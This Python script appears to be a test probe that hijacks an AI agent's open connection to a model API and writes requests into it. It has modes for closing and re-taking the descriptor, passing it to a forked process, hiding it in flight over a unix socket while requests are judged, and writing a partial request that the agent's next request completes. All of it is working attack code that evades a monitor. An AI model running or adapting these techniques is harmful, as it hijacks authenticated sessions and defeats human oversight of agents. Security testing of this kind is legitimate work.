"""Writes into a connection that the agent keeps open: ``borrowed_socket.py close|keep|flight|passed|prefix PID``.

close: the copy of the agent's descriptor is closed as soon as the request is written, and taken again for the answer.
keep: it is kept. flight: while the request is judged, it is in flight in a unix socket, in no process's table.
prefix: only the beginning of a request is written, so that the agent's next one completes it.
passed: it goes to another process, which writes.
"""

import array
import os
import socket
import sys
import time

import attacker


def main(how: str, pid: int) -> None:
    fd = attacker.connection_of(pid)
    attacker.ran(f"has the agent's connection, descriptor {fd}")
    borrowed = attacker.stolen_socket(pid, fd)
    if how == "prefix":
        borrowed.sendall(f"POST /v1/messages?beta=true&is={attacker.SET['NONCE']} HTTP/1.1\r\nX-Rest: ".encode())
        return
    if how == "passed":
        write_elsewhere(borrowed)
        return
    borrowed.sendall(attacker.request())
    if how == "keep":
        attacker.read_answer(borrowed, how)
        return
    if how == "flight":
        ours, theirs = socket.socketpair()
        ours.sendmsg([b"."], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [borrowed.fileno()]))])
    borrowed.close()
    time.sleep(1)
    borrowed = received(theirs) if how == "flight" else attacker.stolen_socket(pid, fd)
    attacker.read_answer(borrowed, how) if borrowed else attacker.note("the connection is gone")


def write_elsewhere(borrowed: socket.socket) -> None:
    ours, theirs = socket.socketpair()
    if os.fork() == 0:
        mine = received(theirs)
        mine.sendall(attacker.request())
        attacker.read_answer(mine, "passed")
        os._exit(0)
    ours.sendmsg([b"."], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [borrowed.fileno()]))])
    borrowed.close()
    os.wait()


def received(channel: socket.socket) -> socket.socket:
    _, messages, _, _ = channel.recvmsg(1, socket.CMSG_SPACE(4))
    return socket.socket(fileno=array.array("i", messages[0][2])[0])


main(sys.argv[1], int(sys.argv[2]))
